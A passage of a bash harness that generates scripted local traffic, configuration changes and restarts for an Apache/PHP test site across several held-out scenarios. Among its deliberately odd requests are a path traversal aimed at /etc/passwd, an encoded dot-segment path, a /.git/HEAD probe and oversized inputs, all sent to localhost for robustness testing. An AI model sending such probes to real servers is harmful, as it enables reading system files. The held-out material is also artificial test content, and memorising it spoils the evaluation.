# as they serve), applied with a graceful restart from outside (USR1, as `apache2ctl
# graceful`). The late event: twelve customers (users 13-24) sign in at once and stay signed
# in, then the cron job purges every session (`--max-age 0 --report purge`).
apache_heldout8_deploy() { :; }
apache_heldout8_mix() {
  local r=$HELDOUT8_ROUND i u=http://127.0.0.1:$APACHE_PORT a user
  local paths=(/ /about.php /terms.html /favicon.ico /css/site.css "/search.php?q=product+$((r % 9))")
  for i in $(seq $((1 + r % 7)) 7 100); do paths+=("/product.php?id=$i"); done
  for i in $(seq $((1 + r % 9)) 9 50); do paths+=("/img/$i.png"); done
  heldout8_get "$APACHE_PORT" "${paths[@]}"
  local up=()
  user=user$(printf %02d $((1 + r * 11 % 60)))
  [ $((r % 3)) != 0 ] || { APACHE_SEQ=$((APACHE_SEQ + 1)); up=("expenses-$APACHE_SEQ.csv" 150000); }
  apache_session $((81 + r % 20)) "$user" "${up[@]}"
  a=$(heldout8_addr 5)
  case $((r % 6)) in
    0) apache_session $((81 + (r + 3) % 20)) "$user" "avatar-$r.php" 2000 ;;
    1) curl -s --interface "$a" "$u/account.php" ;;
    2) curl -s --interface "$a" "$u/product.php?id=0" ;;
    3) curl -s --interface "$a" -X POST "$u/contact.php" ;;
    4) curl -s --interface "$a" -X TRACE "$u/" ;;
    5) curl -s --interface "$a" -r 0-511 "$u/img/$((1 + r % 50)).png" ;;
  esac >/dev/null 2>&1 || true
}
apache_heldout8_maint() { apache_cron --max-age 20 --report weekly; }
apache_heldout8_change() {
  local m=/usr/lib/apache2/modules
  cat >"$APACHE_DIR/conf/app.d/compress.conf" <<CONF
LoadModule filter_module $m/mod_filter.so
LoadModule deflate_module $m/mod_deflate.so
AddOutputFilterByType DEFLATE text/html text/css application/javascript
MaxConnectionsPerChild 200
CONF
  apache_graceful
  until_ok apache_heldout8_deflated
}
# apache_heldout8_deflated: the home page comes compressed, as the change configured.
apache_heldout8_deflated() {
  curl -s -H 'Accept-Encoding: gzip' -o /dev/null -D - "http://127.0.0.1:$APACHE_PORT/" | grep -qi '^content-encoding: gzip'
}
apache_heldout8_late() {
  local i pids=()
  for i in $(seq 1 12); do
    apache_session $((81 + i)) "user$(printf %02d $((i + 12)))" &
    pids+=($!)
  done
  wait "${pids[@]}" || true
  apache_cron --max-age 0 --report purge
}

# Held out, ninth set (heldout9). No deploy. Clients from 127.0.7.1-250 for every eleventh
# product and every sixth image (another offset each round), about, the terms, the
# stylesheet, the contact page and a search; a customer (users 01-60 in turn) from
# 127.0.0.121-140 (addresses apache never served) signs in, every fourth round uploads a
# 600 kB `timesheet-N.xlsx` and downloads it back, and every other round signs out; one
# more request in turn: a sign-in with an empty password (401), a file under /files/ that
# does not exist (404), a page with extra path info (`/index.php/extra/path`), a contact
# message of 100 kB, a conditional GET of the stylesheet (304), a product id with a path in
# it (404). The maintenance: the cron job with other arguments (`--max-age 600 --report
# daily`). The change: conf/app.d/status.conf (mod_status at /server-status for 127.0.0.1,
# ExtendedStatus, KeepAliveTimeout 8); the operator inside the cgroup lists the modules
# (`apache2 -M`, root), then a graceful restart from outside (USR1); the monitoring scrapes
# `/server-status?auto` every round from then on. The late event: a full restart (HUP to the
# parent, as `apache2ctl restart`: every worker stopped at once and new ones forked), then a
# round.
apache_heldout9_deploy() { :; }
APACHE_HELDOUT9_STATUS=0
apache_heldout9_mix() {
  local r=$HELDOUT9_ROUND i u=http://127.0.0.1:$APACHE_PORT a user addr
  local paths=(/ /about.php /terms.html /css/site.css /contact.php "/search.php?q=product+$((r % 7))")
  for i in $(seq $((1 + r % 11)) 11 100); do paths+=("/product.php?id=$i"); done
  for i in $(seq $((1 + r % 6)) 6 50); do paths+=("/img/$i.png"); done
  heldout9_get "$APACHE_PORT" "${paths[@]}"
  [ "$APACHE_HELDOUT9_STATUS" = 0 ] || apache_curl "$u/server-status?auto"
  user=user$(printf %02d $((1 + r * 13 % 60)))
  addr=$((121 + r % 20))
  if [ $((r % 4)) = 0 ]; then
    APACHE_SEQ=$((APACHE_SEQ + 1))
    apache_session "$addr" "$user" "timesheet-$APACHE_SEQ.xlsx" 600000
  elif [ $((r % 2)) = 1 ]; then
    apache_session "$addr" "$user" "" 0 1
  else
    apache_session "$addr" "$user"
  fi
  a=$(heldout9_addr 5)
  case $((r % 6)) in
    0) curl -s --interface "$a" --data-urlencode "user=$user" --data-urlencode "pass=" "$u/login.php" ;;
    1) curl -s --interface "$a" "$u/files/$user-missing-$r.pdf" ;;
    2) curl -s --interface "$a" "$u/index.php/extra/path" ;;
    3) curl -s --interface "$a" -d "email=c$r@example.com" --data-urlencode "message=$(head -c 100000 /dev/zero | tr '\0' m)" "$u/contact.php" ;;
    4) curl -s --interface "$a" -z "$APACHE_HTDOCS/css/site.css" "$u/css/site.css" ;;
    5) curl -s --interface "$a" "$u/product.php?id=..%2F..%2Fetc%2Fpasswd" ;;
  esac >/dev/null 2>&1 || true
}
apache_heldout9_maint() { apache_cron --max-age 600 --report daily; }
apache_heldout9_change() {
  cat >"$APACHE_DIR/conf/app.d/status.conf" <<CONF
LoadModule status_module /usr/lib/apache2/modules/mod_status.so
ExtendedStatus On
KeepAliveTimeout 8
<Location /server-status>
  SetHandler server-status
  Require ip 127.0.0.1
</Location>
CONF
  admin apache root /usr/sbin/apache2 -d "$APACHE_DIR" -f "$APACHE_DIR/conf/apache2.conf" -M
  apache_graceful
  until_ok curl -sf "http://127.0.0.1:$APACHE_PORT/server-status?auto"
  APACHE_HELDOUT9_STATUS=1
}
apache_heldout9_late() {
  kill -HUP "$APACHE_PID"
  sleep 1
  until_ok curl -sf "http://127.0.0.1:$APACHE_PORT/terms.html"
  HELDOUT9_ROUND=$((HELDOUT9_ROUND + 1))
  apache_heldout9_mix
}

# Held out, tenth set (heldout10). No deploy. Clients from 127.0.8.1-250 for every ninth
# product and every seventh image (another offset each round), the home page, the favicon,
# the script and a search; a customer (users 01-60, every seventeenth in turn) from
# 127.0.0.161-180 (addresses apache never served) signs in, every third round uploads a
# 1.5 MB `plan-N.dwg` and downloads it back, and every other round signs out; one more
# request in turn: a 10 kB cookie (400), a sign-in as a user that does not exist, a product
# page with an empty id (404 through 404.php), a script outside the document root (404),
# HEAD of the customer's last upload, a Host header with a space in it (400). The change,
# early: conf/app.d/cache.conf (mod_headers with a Cache-Control header for images,
# MaxConnectionsPerChild 150, MinSpareServers 3), a graceful restart from outside (USR1).
# The late event: the catalogue grows (products 101-120 written from outside), then a round
# that requests them. The maintenance: the cron job with other arguments (`--max-age 240
# --report shift`).
apache_heldout10_deploy() { :; }
APACHE_HELDOUT10_NEW=0
apache_heldout10_mix() {
  local r=$HELDOUT10_ROUND i u=http://127.0.0.1:$APACHE_PORT a user addr
  local paths=(/ /favicon.ico /js/app.js "/search.php?q=product+$((r % 9))")
  for i in $(seq $((1 + r % 9)) 9 100); do paths+=("/product.php?id=$i"); done
  [ "$APACHE_HELDOUT10_NEW" = 0 ] || for i in $(seq $((101 + r % 4)) 4 120); do paths+=("/product.php?id=$i"); done
  for i in $(seq $((1 + r % 7)) 7 50); do paths+=("/img/$i.png"); done
  heldout10_get "$APACHE_PORT" "${paths[@]}"
  user=user$(printf %02d $((1 + r * 17 % 60)))
  addr=$((161 + r % 20))
  if [ $((r % 3)) = 0 ]; then
    APACHE_SEQ=$((APACHE_SEQ + 1))
    apache_session "$addr" "$user" "plan-$APACHE_SEQ.dwg" 1500000 "$([ $((r % 2)) = 1 ] && echo logout)"
  else
    apache_session "$addr" "$user" "" 0 "$([ $((r % 2)) = 1 ] && echo logout)"
  fi
  a=$(heldout10_addr 6)
  case $((r % 6)) in
    0) curl -s --interface "$a" -b "pref=$(head -c 10000 /dev/zero | tr '\0' p)" "$u/" ;;
    1) curl -s --interface "$a" --data-urlencode "user=nobody$r" --data-urlencode "pass=pw" "$u/login.php" ;;
    2) curl -s --interface "$a" "$u/product.php?id=" ;;
    3) curl -s --interface "$a" "$u/app/cron.php" ;;
    4) curl -s --interface "$a" -I "$u/files/$user-plan-$APACHE_SEQ.dwg" ;;
    5) heldout3_raw "$APACHE_PORT" "$a" 'GET / HTTP/1.1\r\nHost: bad host\r\nConnection: close\r\n\r\n' ;;
  esac >/dev/null 2>&1 || true
}
apache_heldout10_change() {
  cat >"$APACHE_DIR/conf/app.d/cache.conf" <<CONF
LoadModule headers_module /usr/lib/apache2/modules/mod_headers.so
MaxConnectionsPerChild 150
MinSpareServers 3
<Directory $APACHE_HTDOCS/img>
  Header set Cache-Control "public, max-age=600"
</Directory>
CONF
  apache_graceful
  until_ok apache_heldout10_cached
}
# apache_heldout10_cached: images come with the change's Cache-Control header.
apache_heldout10_cached() { curl -sI "http://127.0.0.1:$APACHE_PORT/img/1.png" | grep -qi '^cache-control: public, max-age=600'; }
apache_heldout10_maint() { apache_cron --max-age 240 --report shift; }
apache_heldout10_late() {
  local i
  for i in $(seq 101 120); do
    printf '{"id": %d, "name": "product %d", "price": %d, "stock": %d}\n' "$i" "$i" $((i * 7 % 90 + 5)) \
      $((i * 13 % 40)) >"$APACHE_DATA/catalog/$i.json"
  done
  APACHE_HELDOUT10_NEW=1
  HELDOUT10_ROUND=$((HELDOUT10_ROUND + 1))
  apache_heldout10_mix
}

# Held out, eleventh set (heldout11). No deploy. Clients from 127.0.9.1-250 for every eighth
# product and every ninth image (another offset each round), the home page, about, the
# stylesheet and a search, and, once the change is in, the deals page and its old address;
# a customer (users 01-60, every thirteenth in turn) from 127.0.0.201-220 (addresses apache
# never served) signs in, every fourth round uploads a 600 kB `statement-N.pdf` and
# downloads it back, and signs out every third round; one more request in turn: a PUT (405),
# a 7 MB POST to the sign-in form (over PHP's post_max_size), a path with an encoded dot
# segment, a client that sends one header line and goes away after 0.5 s, a search with a
# 2000-character phrase, the server-status page (no such module: 404). The maintenance,
# early: `cron.php --max-age 1200 --report morning`. The change, in the middle: a deals
# section (htdocs/deals/index.php, a new PHP page listing the cheap products) with an
# `.htaccess` (a Redirect of /deals/today to it, its own ErrorDocument) that
# conf/app.d/deals.conf lets it use (`AllowOverride FileInfo`), the configuration tested by
# the operator inside the cgroup (`apache2 -t`, root) and a graceful restart from outside
# (USR1). The late event: a full restart by the operator inside the cgroup with the
# server's own tool (`apache2 -k restart`, root: HUP to the parent, every worker replaced),
# then a cache warm-up, every product page fetched once over two keep-alive connections.
apache_heldout11_deploy() { :; }
APACHE_HELDOUT11_DEALS=0
apache_heldout11_mix() {
  local r=$HELDOUT11_ROUND i u=http://127.0.0.1:$APACHE_PORT a user logout=
  local paths=(/ /about.php /css/site.css "/search.php?q=product+$((r % 11))")
  [ "$APACHE_HELDOUT11_DEALS" = 0 ] || paths+=(/deals/ /deals/today)
  for i in $(seq $((1 + r % 8)) 8 100); do paths+=("/product.php?id=$i"); done
  for i in $(seq $((1 + r % 9)) 9 50); do paths+=("/img/$i.png"); done
  heldout11_get "$APACHE_PORT" "${paths[@]}"
  user=user$(printf %02d $((1 + r * 13 % 60)))
  [ $((r % 3)) != 0 ] || logout=logout
  if [ $((r % 4)) = 0 ]; then
    APACHE_SEQ=$((APACHE_SEQ + 1))
    apache_session $((201 + r % 20)) "$user" "statement-$APACHE_SEQ.pdf" 600000 "$logout"
  else
    apache_session $((201 + r % 20)) "$user" "" 0 "$logout"
  fi
  a=$(heldout11_addr 6)
  case $((r % 6)) in
    0) curl -s --interface "$a" -X PUT --data-binary 'x' "$u/terms.html" ;;
    1) head -c 7000000 /dev/zero | curl -s --interface "$a" -H 'Content-Type: application/x-www-form-urlencoded' --data-binary @- "$u/login.php" ;;
    2) curl -s --interface "$a" --path-as-is "$u/img/%2e%2e/terms.html" ;;
    3) heldout3_raw "$APACHE_PORT" "$a" 'GET /about.php HTTP/1.1\r\nHost: x\r\n' 0.5 ;;
    4) curl -s --interface "$a" "$u/search.php?q=$(head -c 2000 /dev/zero | tr '\0' w)" ;;
    5) curl -s --interface "$a" "$u/server-status" ;;
  esac >/dev/null 2>&1 || true
}
apache_heldout11_maint() { apache_cron --max-age 1200 --report morning; }
apache_heldout11_change() {
  mkdir -p "$APACHE_HTDOCS/deals"
  cat >"$APACHE_HTDOCS/deals/index.php" <<'PHP'
<?php
require __DIR__ . '/../../app/bootstrap.php';
page_header('Deals');
foreach (catalog_list(1, 100) as $p) {
    if ($p['price'] < 20) printf('<p><a href="/product.php?id=%d">%s</a> %d EUR</p>', $p['id'], htmlspecialchars($p['name']), $p['price']);
}
page_footer();
PHP
  cat >"$APACHE_HTDOCS/deals/.htaccess" <<'HT'
Redirect 301 /deals/today /deals/
ErrorDocument 404 /404.php
HT
  cat >"$APACHE_DIR/conf/app.d/deals.conf" <<CONF
<Directory $APACHE_HTDOCS/deals>
  AllowOverride FileInfo
</Directory>
CONF
  admin apache root /usr/sbin/apache2 -d "$APACHE_DIR" -f "$APACHE_DIR/conf/apache2.conf" -t
  apache_graceful
  until_ok apache_heldout11_redirected
  APACHE_HELDOUT11_DEALS=1
}
# apache_heldout11_redirected: the .htaccess rule is in force.
apache_heldout11_redirected() {
  [ "$(curl -s -o /dev/null -w '%{http_code}' "http://127.0.0.1:$APACHE_PORT/deals/today")" = 301 ]
}
apache_heldout11_late() {
  local i paths=()
  admin apache root /usr/sbin/apache2 -d "$APACHE_DIR" -f "$APACHE_DIR/conf/apache2.conf" -k restart
  sleep 1
  until_ok curl -sf "http://127.0.0.1:$APACHE_PORT/terms.html"
  for i in $(seq 1 100); do paths+=("/product.php?id=$i"); done
  heldout11_crawl "$APACHE_PORT" 2 "${paths[@]}"
}

# Held out, twelfth set (heldout12). No deploy. Clients from 127.0.10.1-250 for every sixth
# product and every eighth image (another offset each round), the home page, about, the
# contact form, the script and a search; a customer (every nineteenth of the users in turn)
# from 127.0.0.221-240 (addresses apache never served) signs in, every fifth round uploads a
# 900 kB `invoice-N.xlsx` and downloads it back, and signs out every other round; one more
# request in turn: 40 byte ranges of an image (a multipart 206), a contact message of 1 MB,
# `/checkout.php` (404), `OPTIONS *`, a sign-in with an empty password, a Range header that
# does not parse (the whole image). The change, in the first seconds while the clients are
# busy: conf/app.d/release.conf (mod_headers with an `X-Release` header, `KeepAliveTimeout
# 2`, `MaxKeepAliveRequests 25`, PHP's `session.gc_maxlifetime` raised), a graceful restart
# by the operator inside the cgroup with the server's own tool (`apache2 -k graceful`,
# root). The maintenance, in the middle: the configuration tested with the loaded modules
# listed by the operator inside the cgroup (`apache2 -t -D DUMP_MODULES`, root) and the cron
# job with other arguments (`--max-age 3600 --report midday`). The late event: accounts
# imported: users.json replaced (written beside, renamed over it: the workers read it at
# each sign-in) with users 61-80 added, who sign in from then on.
# apache_visit UPLOAD ADDR USER STEM EXT SIZE LOGOUT: a customer's visit (apache_session);
# with UPLOAD 1 it uploads SIZE bytes as STEM-N.EXT (N the next upload number).
apache_visit() {
  if [ "$1" = 1 ]; then
    APACHE_SEQ=$((APACHE_SEQ + 1))
    apache_session "$2" "$3" "$4-$APACHE_SEQ.$5" "$6" "$7"
  else
    apache_session "$2" "$3" "" 0 "$7"
  fi
}
apache_heldout12_deploy() { :; }
APACHE_HELDOUT12_USERS=60
apache_heldout12_mix() {
  local r=$HELDOUT12_ROUND i u=http://127.0.0.1:$APACHE_PORT a user logout="" ranges
  local paths=(/ /about.php /contact.php /js/app.js "/search.php?q=product+$((r % 13))")
  for i in $(seq $((1 + r % 6)) 6 100); do paths+=("/product.php?id=$i"); done
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /img/ 8 50 "$r" .png)
  heldout12_get "$APACHE_PORT" "${paths[@]}"
  user=user$(printf %02d $((1 + r * 19 % APACHE_HELDOUT12_USERS)))
  [ $((r % 2)) = 0 ] || logout=logout
  apache_visit $((r % 5 == 0)) $((221 + r % 20)) "$user" invoice xlsx 900000 "$logout"
  a=$(heldout12_addr 6)
  ranges=$(seq 0 40 1560 | awk '{ printf "%s%d-%d", (NR > 1 ? "," : ""), $1, $1 + 9 }')
  case $((r % 6)) in
    0) curl -s --interface "$a" -r "$ranges" "$u/img/$((1 + r % 50)).png" ;;
    1) curl -s --interface "$a" -d "email=c$r@example.com" --data-urlencode "message=$(head -c 1000000 /dev/zero | tr '\0' m)" "$u/contact.php" ;;
    2) curl -s --interface "$a" "$u/checkout.php" ;;
    3) heldout3_raw "$APACHE_PORT" "$a" 'OPTIONS * HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n' ;;
    4) curl -s --interface "$a" --data-urlencode "user=$user" --data-urlencode "pass=" "$u/login.php" ;;
    5) curl -s --interface "$a" -H 'Range: bytes=z-' "$u/img/$((1 + r % 50)).png" ;;
  esac >/dev/null 2>&1 || true
}
apache_heldout12_change() {
  cat >"$APACHE_DIR/conf/app.d/release.conf" <<CONF
LoadModule headers_module /usr/lib/apache2/modules/mod_headers.so
Header always set X-Release "2027.1"
KeepAliveTimeout 2
MaxKeepAliveRequests 25
<Directory $APACHE_HTDOCS>
  php_value session.gc_maxlifetime 900
</Directory>
CONF
  admin apache root /usr/sbin/apache2 -d "$APACHE_DIR" -f "$APACHE_DIR/conf/apache2.conf" -k graceful
  until_ok apache_heldout12_released
}
# apache_heldout12_released: answers carry the release header.
apache_heldout12_released() { curl -sI "http://127.0.0.1:$APACHE_PORT/terms.html" | grep -qi '^x-release: 2027.1'; }
apache_heldout12_maint() {
  admin apache root /usr/sbin/apache2 -d "$APACHE_DIR" -f "$APACHE_DIR/conf/apache2.conf" -t -D DUMP_MODULES
  apache_cron --max-age 3600 --report midday
}
apache_heldout12_late() {
  apache_users 80 >"$APACHE_DATA/users.json.new"
  mv "$APACHE_DATA/users.json.new" "$APACHE_DATA/users.json"
  APACHE_HELDOUT12_USERS=80
}

# Held out, thirteenth set (heldout13). No deploy. Clients from 127.0.11.1-250 for every ninth
# product and every sixth image (another offset each round), the terms, the stylesheet and a
# search; a customer (every twenty-third of the users in turn) from 127.0.0.241-250
# (addresses apache never served) signs in, every fourth round uploads a 250 kB
# `boarding-pass-N.png` and downloads it back, and signs out every third round; one more
# request in turn: an `If-Modified-Since` of the terms (304), a sign-in with a 5000-character
# user name, a product number that is text, `/.git/HEAD` (404), HEAD of a search, the account
# page over HTTP/1.0 without a session (redirected). The maintenance, at the very start: the
# cron job with other arguments (`cron.php --max-age 45 --report hourly`). The restart, in the
# middle: a graceful stop (WINCH to the parent, as `apache2ctl graceful-stop`) and a start.
# The change, late: a new log format, conf/app.d/timing.conf (`LogFormat` with the time taken
# and the response size, a second `CustomLog` log/timing.log), applied with USR1 from outside
# (`apache2ctl graceful`).
apache_heldout13_deploy() { :; }
apache_heldout13_mix() {
  local r=$HELDOUT13_ROUND u=http://127.0.0.1:$APACHE_PORT user logout=""
  local paths=(/terms.html /css/site.css "/search.php?q=product+$((r % 17))")
  mapfile -t -O "${#paths[@]}" paths < <(every_nth '/product.php?id=' 9 100 "$r"; every_nth /img/ 6 50 "$r" .png)
  heldout13_get "$APACHE_PORT" "${paths[@]}"
  user=user$(printf %02d $((1 + r * 23 % 60)))
  [ $((r % 3)) != 0 ] || logout=logout
  apache_visit $((r % 4 == 0)) $((241 + r % 10)) "$user" boarding-pass png 250000 "$logout"
  # The round's one more request, as curl's arguments.
  local odd=()
  case $((r % 6)) in
    0) odd=(-H 'If-Modified-Since: Fri, 01 Jan 2038 00:00:00 GMT' "$u/terms.html") ;;
    1) odd=(--data-urlencode "user=$(head -c 5000 /dev/zero | tr '\0' u)" --data-urlencode "pass=x" "$u/login.php") ;;
    2) odd=("$u/product.php?id=abc") ;;
    3) odd=("$u/.git/HEAD") ;;
    4) odd=(-I "$u/search.php?q=product") ;;
    5) odd=(--http1.0 "$u/account.php") ;;
  esac
  heldout13_curl 6 "${odd[@]}" </dev/null
}
apache_heldout13_maint() { apache_cron --max-age 45 --report hourly; }
apache_heldout13_restart() { heldout13_restart apache APACHE_PID WINCH; }
apache_heldout13_change() {
  cat >"$APACHE_DIR/conf/app.d/timing.conf" <<CONF
LogFormat "%a %t \"%r\" %>s %B %D" timing
CustomLog $APACHE_DIR/log/timing.log timing
CONF
  apache_graceful
  until_ok test -e "$APACHE_DIR/log/timing.log"
}

# Held out, fourteenth set (heldout14). No deploy. Clients from 127.0.12.1-240 for every eighth
# product and every seventh image (another offset each round), the terms, the stylesheet and
# a search; a customer (every seventeenth of the users in turn) from the round's seventh
# address signs in, every fifth round uploads a 150 kB `invoice-N.pdf` and downloads it back,
# and signs out every second round; one more request in turn: a range of the terms (206),
# OPTIONS of the home page, a search with an empty query, a product page with extra path
# information (`/product.php/reviews?id=3`), the contact form with its fields empty, an
# upload with `Expect: 100-continue` and no session. The change, early: the error log made
# verbose (conf/app.d/loglevel.conf, `LogLevel info`), applied with USR1 from outside
# (`apache2ctl graceful`). The maintenance, in the middle while the load goes on: the
# virtual hosts and run settings listed by the operator inside the cgroup (`apache2 -S`,
# root). The reload, late: USR1 again with the configuration unchanged (as logrotate's
# postrotate does). The tail: three long-lived keep-alive clients from 127.0.12.241-250, a
# page or an image every ~1.2 s.
apache_heldout14_mix() {
  local r=$HELDOUT14_ROUND u=http://127.0.0.1:$APACHE_PORT logout=""
  # The customer first, then the round's other clients.
  [ $((r % 2)) != 0 ] || logout=logout
  apache_visit $((r % 5 == 0)) "$(heldout14_addr 7)" "user$(printf %02d $((1 + r * 17 % 60)))" invoice pdf 150000 "$logout"
  local paths=(/terms.html /css/site.css "/search.php?q=product+$((r % 13))")
  mapfile -t -O "${#paths[@]}" paths < <(every_nth '/product.php?id=' 8 100 "$r"; every_nth /img/ 7 50 "$r" .png)
  heldout14_get "$APACHE_PORT" "${paths[@]}"
  # The round's one more request, as curl's arguments (stdin: the upload, or nothing).
  local odd=()
  case $((r % 6)) in
    0) odd=(-r 0-199 "$u/terms.html") ;;
    1) odd=(-X OPTIONS "$u/") ;;
    2) odd=("$u/search.php?q=") ;;
    3) odd=("$u/product.php/reviews?id=3") ;;
    4) odd=(-d 'email=&message=' "$u/contact.php") ;;
    5) odd=(-H 'Expect: 100-continue' -F 'doc=@-;filename=statement.pdf' "$u/upload.php") ;;
  esac
  head -c $((r % 6 == 5 ? 100000 : 0)) /dev/urandom | heldout14_curl 6 "${odd[@]}"
}
apache_heldout14_deploy() { :; }
apache_heldout14_change() {
  echo "LogLevel info" >"$APACHE_DIR/conf/app.d/loglevel.conf"
  apache_graceful
}
apache_heldout14_maint() {
  admin apache root /usr/sbin/apache2 -d "$APACHE_DIR" -f "$APACHE_DIR/conf/apache2.conf" -S
}
apache_heldout14_reload() { apache_graceful; }
apache_heldout14_tail() {
  heldout14_linger "$APACHE_PORT" "$1" /terms.html '/product.php?id=12' /img/5.png '/search.php?q=lamp' \
    '/product.php?id=77' /css/site.css /img/33.png '/product.php?id=40'
}


# Held out, fifteenth set (heldout15). No deploy. Clients from 127.0.14.1-250 for every ninth
# product and every sixth image (another offset each round), the terms, about and a search;
# every third round a customer (every thirteenth of the users in turn) from the round's
# seventh address signs in, uploads a 40-byte `note-N.txt` and downloads it back, and signs
# out; once the change is in, an image by the new virtual host's name (`Host:
# static.localhost`); one more client in turn (heldout15_odd, as for nginx). The
# maintenance, first, while the full load is on: a staged virtual host configuration
# (`conf/staged/static.conf`: the site's own name and `static.localhost`, whose root is the
# images, with its own access log) tested by the operator inside the cgroup (`apache2 -t -c
# 'Include conf/staged/*.conf'`, root). The restart, in the middle: `apache2 -k stop` by the
# operator inside the cgroup (apache's own control command, root) and a start. The change,
# last: the staged virtual hosts installed into conf/app.d, USR1 from outside (`apache2ctl
# graceful`).
apache_heldout15_deploy() { :; }
apache_heldout15_mix() {
  local r=$HELDOUT15_ROUND u=http://127.0.0.1:$APACHE_PORT
  [ $((r % 3)) != 0 ] ||
    apache_visit 1 "$(heldout15_addr 7)" "user$(printf %02d $((1 + r * 13 % 60)))" note txt 40 logout
  local paths=(/terms.html /about.php "/search.php?q=product+$((r % 11))")
  mapfile -t -O "${#paths[@]}" paths < <(every_nth '/product.php?id=' 9 100 "$r"; every_nth /img/ 6 50 "$r" .png)
  heldout15_get "$APACHE_PORT" "${paths[@]}"
  [ ! -e "$APACHE_DIR/conf/app.d/static.conf" ] || heldout15_curl 3 -H 'Host: static.localhost' "$u/$((1 + r % 50)).png"
  heldout15_odd "$APACHE_PORT" /terms.html "/img/$((1 + r % 50)).png"
}
# apache_ctl ARG...: apache's own command line on its configuration, by the operator inside
# the cgroup (root).
apache_ctl() { admin apache root /usr/sbin/apache2 -d "$APACHE_DIR" -f "$APACHE_DIR/conf/apache2.conf" "$@"; }
apache_heldout15_maint() {
  mkdir -p "$APACHE_DIR/conf/staged"
  cat >"$APACHE_DIR/conf/staged/static.conf" <<CONF
<VirtualHost 127.0.0.1:$APACHE_PORT>
  ServerName localhost
</VirtualHost>
<VirtualHost 127.0.0.1:$APACHE_PORT>
  ServerName static.localhost
  DocumentRoot $APACHE_HTDOCS/img
  CustomLog $APACHE_DIR/log/static-access.log combined
</VirtualHost>
CONF
  apache_ctl -t -c "Include $APACHE_DIR/conf/staged/*.conf"
}
apache_heldout15_restart() { heldout15_ctl_restart apache APACHE_PID apache_ctl -k stop; }
apache_heldout15_change() {
  cp "$APACHE_DIR/conf/staged/static.conf" "$APACHE_DIR/conf/app.d/static.conf"
  apache_graceful
  until_ok curl -sf -H 'Host: static.localhost' "http://127.0.0.1:$APACHE_PORT/1.png"
}

# Held out, sixteenth set (heldout16). No deploy. Clients from 127.0.16.1-250 for every
# eleventh product and every seventh image (another offset each round), the terms, about and
# a search, once the change is in products by their short address (`/p/N`), once the second
# is in the thumbnails; in the quiet start one slow client (heldout16_get); one more client
# in turn (heldout16_odd, as for nginx). The change, early: short product addresses (mod_rewrite
# loaded, `RewriteRule ^/p/([0-9]+)$ /product.php?id=$1 [PT]` in conf/app.d), a graceful
# restart from outside (USR1, `apache2ctl graceful`). The second change, two thirds in:
# thumbnails published by the deploy side (img/thumbs/, 50 files, written into a new
# directory and renamed into place). The maintenance, last: the configuration's included
# files and run-time settings listed by the operator inside the cgroup (`apache2 -t -D
# DUMP_INCLUDES`, `apache2 -t -D DUMP_RUN_CFG`, root). Then a clean shutdown (TERM).
APACHE_HELDOUT16_THUMBS=0
apache_heldout16_deploy() { APACHE_HELDOUT16_THUMBS=0; }
apache_heldout16_mix() {
  local r=$HELDOUT16_ROUND
  local paths=(/terms.html /about.php "/search.php?q=lamp+$((r % 9))")
  mapfile -t -O "${#paths[@]}" paths < <(every_nth '/product.php?id=' 11 100 "$r"; every_nth /img/ 7 50 "$r" .png)
  [ ! -e "$APACHE_DIR/conf/app.d/short.conf" ] || paths+=("/p/$((1 + r % 100))" "/p/$((1 + r * 7 % 100))")
  [ "$APACHE_HELDOUT16_THUMBS" = 0 ] || paths+=("/img/thumbs/$((1 + r % 50)).png")
  heldout16_get "$APACHE_PORT" "${paths[@]}"
  heldout16_odd "$APACHE_PORT" /terms.html
}
apache_heldout16_change() {
  printf '%s\n' "LoadModule rewrite_module /usr/lib/apache2/modules/mod_rewrite.so" "RewriteEngine On" \
    'RewriteRule ^/p/([0-9]+)$ /product.php?id=$1 [PT]' >"$APACHE_DIR/conf/app.d/short.conf"
  apache_graceful
  until_ok curl -sf "http://127.0.0.1:$APACHE_PORT/p/3"
}
apache_heldout16_second() {
  local t=$APACHE_HTDOCS/img/.thumbs.new i
  mkdir -p "$t"
  for i in $(seq 1 50); do head -c 400 /dev/urandom >"$t/$i.png"; done
  mv "$t" "$APACHE_HTDOCS/img/thumbs"
  APACHE_HELDOUT16_THUMBS=1
}
apache_heldout16_maint() { apache_ctl -t -D DUMP_INCLUDES; apache_ctl -t -D DUMP_RUN_CFG; }

# Held out, seventeenth set (heldout17). No deploy but the clients' /24 (127.0.23.1-250). A
# cold start under load: apache starts inside the recording while clients already retry
# (heldout17_begin). Clients for every twelfth product and every fourth image (another offset
# each round), the terms, about, the stylesheet and a search in mixed case, as many at a time
# as the slow wave's load; every fourth round a customer (every twenty-ninth user in turn)
# from the round's ninth address signs in, every eighth round uploads a 12 kB `Receipt-N.PDF`
# and downloads it back, and signs out; one more client in turn (heldout17_odd, as for nginx:
# the terms, an image, eight at once on a product page, the contact form with a chunked
# body). The maintenance, early: the application's scripts checked for syntax errors by the
# operator inside the cgroup (`php -l` on each, root), as a deploy's check does. The change,
# in the middle, by a full restart (TERM, start): a disk cache for the images, the stylesheet
# and the terms (conf/app.d/cache.conf: mod_cache and mod_cache_disk loaded, `CacheRoot
# cache/`, a cache lock against eight clients filling one entry at once), as the package's
# documentation suggests for static content. The maintenance, late, while the load falls:
# the disk cache trimmed by its own cleaner (`htcacheclean -n -t -l 40K`, www-data inside the
# cgroup, as the package's apache-htcacheclean service does). The recording ends with load
# still running.
apache_heldout17_deploy() { HELDOUT17_NET=127.0.23; }
apache_heldout17_mix() {
  local r=$HELDOUT17_ROUND
  local paths=(/terms.html /about.php /css/site.css "/search.php?q=Product+$((r % 7))")
  mapfile -t -O "${#paths[@]}" paths < <(every_nth '/product.php?id=' 12 100 "$r"; every_nth /img/ 4 50 "$r" .png)
  heldout17_get "$APACHE_PORT" "${paths[@]}"
  [ $((r % 4)) != 0 ] ||
    apache_visit $((r % 8 == 0)) "$(heldout17_addr 9)" "user$(printf %02d $((1 + r * 29 % 60)))" Receipt PDF 12000 logout
  heldout17_odd "$APACHE_PORT" /terms.html "/img/$((1 + r % 50)).png" "/product.php?id=$((1 + r % 100))" /contact.php
}
apache_heldout17_early() {
  local f
  for f in "$APACHE_DIR"/app/*.php "$APACHE_DIR"/app/lib/*.php "$APACHE_HTDOCS"/*.php; do
    admin apache root /usr/bin/php -l "$f"
  done
}
apache_heldout17_change() {
  local m=/usr/lib/apache2/modules
  apache_stop
  mkdir -p "$APACHE_DIR/cache" "$APACHE_DIR/run/cache-lock"
